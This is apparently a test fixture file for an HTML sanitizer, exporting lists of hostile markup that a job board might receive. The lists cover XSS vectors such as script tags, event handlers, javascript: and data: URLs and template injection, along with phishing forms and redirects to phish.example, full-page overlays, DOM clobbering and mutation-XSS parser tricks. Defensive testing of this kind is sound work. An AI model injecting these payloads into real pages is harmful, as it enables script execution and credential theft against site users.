/** Called by every payload when it runs: `window.hacked` then holds its number. */
const RUN = 'window.hacked=(window.hacked||0)+1;alert(1)';

/** Words of it that would lead away whoever presses them. */
export const LURES = /^(?:press me|over all|cover)$/;

/** What a board could send to run scripts, change the page around it, or phone home. Each piece ends by itself. */
export const HOSTILE_HTML = [
  `<script>${RUN}</script>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="http://tracker.example/pixel.gif">`,
  `<svg onload="${RUN}"><animate onbegin="${RUN}" attributeName=x dur=1s></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<object data="javascript:${RUN}"></object><embed src="javascript:${RUN}">`,
  `<a href="javascript:${RUN}">apply here</a>`,
  `<a href="jav&#x09;ascript:${RUN}">or here</a>`,
  `<a href="data:text/html,<script>${RUN}</script>">or there</a>`,
  `<form action="https://phish.example/"><input name="password" autofocus onfocus="${RUN}"><button>Send</button></form>`,
  `<details open ontoggle="${RUN}"><summary>more</summary></details>`,
  `<body onload="${RUN}"><base href="https://phish.example/">`,
  `<meta http-equiv="refresh" content="0;url=https://phish.example/">`,
  `<link rel="stylesheet" href="https://phish.example/x.css">`,
  `<style>body{display:none}</style>`,
  `<p style="position:fixed;inset:0;background:url(https://phish.example/x)">cover</p>`,
  `<style>@import "https://phish.example/x.css"; main{position:fixed}</style>`,
  `<p><a target="_top" onclick="location='https://phish.example/'">press me</a></p>`,
  `<a href="https://jobs.example/" target="_top" ping="https://phish.example/ping" onclick="${RUN}">a link</a>`,
  `<form action="/login" target="_top"><button formaction="https://phish.example/">Go</button>sent?</form>`,
  `<base href="/elsewhere/" target="_blank"><meta http-equiv="refresh" content="0;url=/about">`,
  `<div style="position:fixed;inset:0;z-index:9999;margin:-900px;width:9000px;opacity:0">over all</div>`,
  `<p id="main" class="skip-link" name="location">clobbering</p>`,
  `{{constructor.constructor('${RUN}')()}}`,
].join('\n');

/** Pieces that make parsers disagree about where they end; each in a description of its own. */
export const SWALLOWING_HTML = [
  `</script><script>${RUN}</script>`,
  `<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=${RUN}&gt;">`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>"></noscript>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `</div></section></main><h1>Forged heading</h1>`,
];
